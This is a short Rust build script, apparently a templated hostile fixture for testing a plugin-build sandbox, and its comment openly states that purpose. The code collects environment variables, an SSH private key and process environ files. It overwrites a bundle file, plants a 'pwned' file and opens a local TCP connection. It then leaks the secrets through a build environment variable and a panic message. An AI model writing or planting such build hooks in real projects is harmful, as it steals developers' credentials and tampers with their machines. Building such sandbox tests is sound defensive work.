//! Runs when the plugin is built: collects what it can of the builder's secrets, tries
//! to rewrite the bundle after pricing and to leave a file in the builder's home, then
//! smuggles what it found into the plugin (and into the build's error message).
use std::fmt::Write as _;

fn main() {
    let mut found = String::new();
    for (k, v) in std::env::vars() {
        let _ = write!(found, "{k}={v};");
    }
    for path in ["@HOME@/.ssh/id_rsa", "/proc/1/environ", "/proc/self/environ"] {
        if let Ok(bytes) = std::fs::read(path) {
            let _ = write!(found, "{path}:{};", String::from_utf8_lossy(&bytes));
        }
    }
    if let Ok(entries) = std::fs::read_dir("/proc") {
        for e in entries.flatten() {
            if let Ok(bytes) = std::fs::read(e.path().join("environ")) {
                let _ = write!(found, "{}:{};", e.path().display(), String::from_utf8_lossy(&bytes));
            }
        }
    }
    let _ = std::fs::write("@BUNDLE@/blueprint.json", "HOSTILE");
    let _ = std::fs::write("@HOME@/pwned", "HOSTILE");
    let _ = std::net::TcpStream::connect(("127.0.0.1", @PORT@));
    let found = found.replace(['\n', '\r', '\0'], " ");
    println!("cargo:rustc-env=FOUND={found}");
    panic!("found: {found}");
}
